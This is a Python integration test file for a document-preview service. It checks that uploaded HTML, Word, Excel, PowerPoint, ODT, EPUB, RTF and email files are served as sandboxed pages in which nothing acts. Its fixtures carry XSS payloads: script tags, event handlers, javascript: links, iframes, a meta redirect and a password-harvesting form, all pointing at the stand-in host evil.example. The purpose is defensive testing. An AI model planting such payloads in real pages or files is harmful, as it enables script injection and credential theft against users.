"""Office files as pages: what of them is shown, and that nothing of them acts."""

import re
from io import BytesIO
from typing import Any

import httpx
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl import Workbook
from pptx import Presentation

from convosphere.knowledge.service import reading, versions
from tests.fixtures.images import picture
from tests.fixtures.people import People
from tests.integration.knowledge.conftest import Upload, Work
from tests.integration.knowledge.test_file_routes import client
from tests.integration.knowledge.test_previews import address
from tests.unit.knowledge.parsing import mail_files, office_files

assert client, "The fixture: Bob's browser."
HOSTILE_PAGE = b"""<!doctype html><script>alert(1)</script><style>body{display:none}</style><meta http-equiv=refresh
content='0;url=https://evil.example/'><p onclick=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;</p><svg onload=alert(1)>
<a href='javascript:alert(1)'>press</a><iframe src='https://evil.example/'></iframe><img src='https://evil.example/a.png'>
<form action='https://evil.example/'><input name=password></form><link rel=stylesheet href='https://evil.example/a.css'>"""
FRAMED = {"sec-fetch-dest": "iframe"}


async def test_office_files_are_pages_in_which_nothing_acts(
    client: httpx.AsyncClient, people: People, add: Upload
) -> None:
    for name, data in HOSTILE:
        place = address((await add(people.bob, name, data)).id)
        answer = await client.get(place, headers=FRAMED)
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("sandbox; default-src 'none'; ")
        assert "script" not in policy
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in answer.text
        assert not re.search(r"<script|javascript:|https?://|<iframe|<svg| on\w+=|<form|<link|<meta http", answer.text)
        assert answer.headers["content-disposition"].startswith("inline")
        opened = await client.get(place)
        assert opened.headers["content-disposition"].startswith("attachment"), "It could pass for a page of ours."
    assert answer.text.count('class="slide"') == 1
    assert "Remember the walrus" in answer.text
    assert 'src="data:image/jpeg;base64,' in answer.text


async def test_a_sheet_of_any_length_is_shown_as_far_as_a_page_takes_it(
    client: httpx.AsyncClient, people: People, add: Upload
) -> None:
    book = Workbook(write_only=True)
    for title in ("Long", "Hidden"):
        sheet = book.create_sheet(title)
        for number in range(1_500):
            sheet.append([number] * 70)
    book["Hidden"].sheet_state = "hidden"
    answer = await client.get(address((await add(people.bob, "long.xlsx", saved(book))).id), headers=FRAMED)
    assert answer.text.count('scope="row"') == 1_000
    assert answer.text.count('scope="col"') == 60
    assert "Hidden" not in answer.text


async def test_the_passage_that_led_to_a_page_is_marked_in_it(
    client: httpx.AsyncClient, people: People, add: Upload, work: Work
) -> None:
    document = await add(people.bob, "a.html", b"<h1>Holidays</h1><p>Everybody has <b>thirty</b> days.<p>Or more.")
    await work()
    (version,) = await versions.list_versions(people.bob, document.id)
    (passage,) = await reading.list_passages(people.bob, document.id)
    start = passage.text.index("Everybody")
    place = f"{start}-{start + len('Everybody has thirty')}"
    marked = '<p><mark id="cited">Everybody has</mark> <b><mark>thirty</mark></b> days.</p>'
    at = address(document.id)
    answer = await client.get(f"{at}?passage={version.id}.{place}", headers=FRAMED)
    assert marked in answer.text
    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'; ")
    assert "<script" not in answer.text
    for other in (f"{document.id}.{place}", f"{version.id}.900-901", f"{version.id}.x-1"):
        shown = await client.get(f"{at}?passage={other}", headers=FRAMED)
        assert shown.status_code == 200
        assert "<mark" not in shown.text


async def test_a_broken_office_file_is_not_shown(client: httpx.AsyncClient, people: People, add: Upload) -> None:
    for name in ("a.docx", "b.xlsx", "c.pptx"):
        uploaded = await add(people.bob, name, hostile_docx()[:-200] + name.encode())
        assert (await client.get(address(uploaded.id), headers=FRAMED)).status_code == 404


def saved(document: Any) -> bytes:  # noqa: ANN401  # Each library has a class of its own.
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def hostile_docx() -> bytes:
    document = Document()
    paragraph = document.add_paragraph("<script>alert(1)</script>")
    for target in ("javascript:alert(1)", "https://evil.example/"):
        key = document.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        link = OxmlElement("w:hyperlink")
        link.set(qn("r:id"), key)
        run = OxmlElement("w:r")
        run.append(OxmlElement("w:t"))
        run[0].text = "press"
        link.append(run)
        paragraph._p.append(link)
    document.add_picture(BytesIO(picture("PNG", (40, 20))))
    return saved(document)


def hostile_xlsx() -> bytes:
    book = Workbook()
    book.active.append(["<script>alert(1)</script>", '=HYPERLINK("https://evil.example/","press")', 12])
    book.active["A1"].hyperlink = "javascript:alert(1)"
    return saved(book)


def hostile_pptx() -> bytes:
    presentation = Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = "Quarter"
    frame = slide.placeholders[1].text_frame
    frame.text = "<script>alert(1)</script>"
    frame.paragraphs[0].runs[0].hyperlink.address = "javascript:alert(1)"
    slide.notes_slide.notes_text_frame.text = "Remember the walrus"
    slide.shapes.add_picture(BytesIO(picture("PNG", (40, 20))), 0, 9_999_999)
    return saved(presentation)


def hostile_letter() -> bytes:
    letter = mail_files.letter("<script>alert(1)</script>")
    letter.add_alternative(HOSTILE_PAGE.decode(), subtype="html")
    return letter.as_bytes()


def hostile_book() -> bytes:
    parts = office_files.parts_of(office_files.book(), "OEBPS/eins.xhtml")
    return office_files.archive({**parts, "OEBPS/eins.xhtml": HOSTILE_PAGE})


SAID = "&lt;script&gt;alert(1)&lt;/script&gt;"
LINKED = f'<text:p><text:a xlink:href="javascript:alert(1)">{SAID}</text:a></text:p>'
HOSTILE = (
    ("a.html", HOSTILE_PAGE), ("b.docx", hostile_docx()), ("c.xlsx", hostile_xlsx()),
    ("d.odt", office_files.open_document("text", LINKED)), ("e.epub", hostile_book()), ("f.eml", hostile_letter()),
    ("g.rtf", rb"{\rtf1\ansi <script>alert(1)</script>{\field{\*\fldinst HYPERLINK https://evil.example/}}\par}"),
    ("h.pptx", hostile_pptx()),
)  # fmt: skip
